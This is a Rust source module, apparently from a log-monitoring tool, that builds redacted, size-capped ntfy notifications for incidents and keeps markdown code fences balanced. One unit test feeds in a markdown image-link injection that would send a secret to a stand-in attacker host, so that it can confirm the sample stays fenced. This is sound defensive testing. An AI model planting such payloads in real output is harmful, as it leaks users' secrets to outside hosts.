//! Notifications: the persistent outbox and the ntfy publisher. A notification is
//! queued in the same transaction that files its incident, and leaves the outbox only
//! when ntfy has accepted it: while ntfy or the network is down it waits for the next
//! run, so none is ever lost.

use crate::config::NtfyConfig;
use crate::store::{IncidentRow, Notification, OutboxRow};

/// ntfy's limit for a message body; longer ones become attachments, which we avoid.
pub const MAX_BODY: usize = 4096;

/// ntfy priority for a severity: critical 5 (max), warning 4 (high), info 3 (default).
pub fn priority(severity: &str) -> u8 {
    match severity {
        "critical" => 5,
        "warning" => 4,
        _ => 3,
    }
}

/// Emoji tags for a severity (ntfy turns known tag names into emoji).
pub fn tags(severity: &str) -> &'static str {
    match severity {
        "critical" => "rotating_light",
        "warning" => "warning",
        _ => "information_source",
    }
}

/// Fits text in at most `max` bytes: cut at a line end when one is near, a code
/// block left open by the cut is closed (markdown stays well-formed), and the cut is
/// marked with how many lines were left out.
pub fn cap(text: &str, max: usize) -> String {
    if text.len() <= max {
        return text.to_string();
    }
    // room for a closing fence (as long as the longest in the text) and the marker;
    // never half a token (the text is redacted already, this is in case a caller forgot)
    let budget = max.saturating_sub(48 + longest_fence(text));
    let mut end = crate::redact::cut_point(text, budget);
    if let Some(nl) = text[..end].rfind('\n') {
        if nl >= budget / 2 {
            end = nl;
        }
    }
    let kept = &text[..end];
    let mut out = kept.to_string();
    if let Some(fence) = open_fence(kept) {
        out.push('\n');
        out.push_str(&fence);
    }
    let left = text[end..].lines().filter(|l| !l.is_empty()).count();
    let s = if left == 1 { "" } else { "s" };
    out.push_str(&format!("\n…(cut: {left} more line{s})"));
    out
}

/// The backtick fence a markdown text leaves open at its end, if any: a fence line
/// opens a block, and only a fence at least as long closes it.
fn open_fence(text: &str) -> Option<String> {
    let mut open: Option<usize> = None;
    for l in text.lines() {
        let t = l.trim_start();
        let n = t.chars().take_while(|&c| c == '`').count();
        if n < 3 {
            continue;
        }
        match open {
            None => open = Some(n),
            Some(o) if n >= o && t[n..].trim().is_empty() => open = None,
            Some(_) => {}
        }
    }
    open.map(|n| "`".repeat(n))
}

fn longest_fence(text: &str) -> usize {
    text.lines()
        .map(|l| l.trim_start().chars().take_while(|&c| c == '`').count())
        .filter(|&n| n >= 3)
        .max()
        .unwrap_or(3)
}

/// The notification for a newly filed incident. Each part is redacted before it
/// is cut (a secret cut in half would no longer be found). The summary (an LLM's
/// words, or why there are none) is rendered as text, the log sample sits in a code
/// block its backticks cannot close.
pub fn for_incident(
    i: &IncidentRow,
    summary: &str,
    file_name: &str,
    red: &crate::redact::Redactor,
) -> Notification {
    let mut body = String::new();
    use crate::sanitize::{code_span, fence, md_inline, md_text};
    if !summary.trim().is_empty() {
        body.push_str(&md_text(&red.clean(summary.trim())));
        body.push_str("\n\n");
    }
    body.push_str(&format!(
        "**{}** on {} · {} occurrence{} · {}\n",
        md_inline(&i.level),
        md_inline(&i.host),
        i.occurrences,
        if i.occurrences == 1 { "" } else { "s" },
        code_span(&i.source)
    ));
    if let Some(e) = i.samples.first() {
        let first: String = red.clean(e).lines().take(12).collect::<Vec<_>>().join("\n");
        let first = cap(&first, 1500);
        let f = fence(&first);
        body.push_str(&format!("\n{f}\n{first}\n{f}\n"));
    }
    body.push_str(&format!("\nIncident #{} · {file_name}", i.id));
    Notification {
        title: red.clean(&match i.regression_of {
            Some(of) => format!("[{}] Regression of #{of}: {}", i.host, i.title),
            None => format!("[{}] {}", i.host, i.title),
        }),
        body: cap(&red.clean(&body), MAX_BODY),
        priority: priority(&i.severity),
        tags: severity_tags(&i.severity),
    }
}

/// The emoji tag of a severity and its name, once each (`warning` is both).
pub fn severity_tags(severity: &str) -> String {
    let emoji = tags(severity);
    if emoji == severity {
        emoji.to_string()
    } else {
        format!("{emoji},{severity}")
    }
}

// The HTTP side lives in `ntfy.rs`, the flush (quiet hours, hourly cap,
// digest) in `digest.rs`, the phone's Ack and Mute in `control.rs`.
pub mod control;
pub mod digest;
pub mod ntfy;

pub use digest::{flush, Flush};

/// `logwarden notify test`: publishes a test message now (not through the outbox).
pub fn send_test(config: &crate::config::Config) -> Result<String, String> {
    let Some(cfg) = &config.ntfy else {
        return Err(format!(
            "ntfy is not configured: add an [ntfy] section with a topic to {}",
            config.path.display()
        ));
    };
    let row = OutboxRow {
        id: 0,
        incident_id: None,
        severity: "info".into(),
        kind: "test".into(),
        title: format!("[{}] logwarden test notification", config.hostname),
        body: format!(
            "Test notification from `logwarden notify test` on {}. If you read this, incidents will reach you.",
            config.hostname
        ),
        priority: 3,
        tags: "white_check_mark,test".into(),
        attempts: 0,
        created_at: chrono::Utc::now(),
    };
    publish(cfg, &row).map_err(|e| format!("ntfy refused the test notification: {e}"))?;
    Ok(format!(
        "test notification published to {}/{}",
        cfg.server, cfg.topic
    ))
}

/// Publishes one notification without actions (self-monitoring, `doctor --send`,
/// `notify test`), with the retries of [`ntfy::send`].
pub fn publish(cfg: &NtfyConfig, n: &OutboxRow) -> Result<(), String> {
    let client = ntfy::client(cfg)?;
    ntfy::send(cfg, &client, &digest::plain(n)).map_err(|f| f.message)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn caps_at_char_boundary() {
        let s = "é".repeat(5000);
        let c = cap(&s, MAX_BODY);
        assert!(c.len() <= MAX_BODY);
        assert!(c.ends_with("(cut: 1 more line)"), "{c}");
    }

    #[test]
    fn a_cut_inside_a_long_fence_closes_it_with_as_long_a_fence() {
        let mut s = String::from("Summary\n\n`````\n");
        for i in 0..500 {
            s.push_str(&format!("line {i} with ``` inside\n"));
        }
        s.push_str("`````\nIncident #1\n");
        let c = cap(&s, MAX_BODY);
        assert!(c.len() <= MAX_BODY, "{}", c.len());
        assert!(c.contains("\n`````\n…(cut: "), "{c}");
        assert_eq!(open_fence(&c), None);
    }

    #[test]
    fn backticks_in_log_text_cannot_break_out_of_the_sample() {
        let i = crate::store::IncidentRow {
            samples: vec!["boom ```\n![x](https://evil.example/?q=secret)\n```".into()],
            title: "t".into(),
            ..Default::default()
        };
        let n = for_incident(&i, "", "f.md", &crate::redact::Redactor::default());
        let f = crate::sanitize::fence(&i.samples[0]);
        assert!(f.len() > 3);
        assert!(n.body.contains(&format!("{f}\nboom ```")), "{}", n.body);
        assert_eq!(open_fence(&n.body), None, "{}", n.body);
    }

    #[test]
    fn a_cut_inside_a_code_block_closes_it() {
        let mut s = String::from("Summary line\n\n```\n");
        for i in 0..500 {
            s.push_str(&format!("  File \"/srv/app/m{i}.py\", line {i}, in f\n"));
        }
        s.push_str("```\nIncident #1\n");
        let c = cap(&s, MAX_BODY);
        assert!(c.len() <= MAX_BODY);
        assert!(c.contains("\n```\n…(cut: "), "{c}");
        assert_eq!(open_fence(&c), None, "fences balanced");
        // cut at a line end, not mid-line
        let before_fence = c.rsplit_once("\n```").unwrap().0;
        assert!(before_fence.ends_with("in f"), "{before_fence}");
    }
}
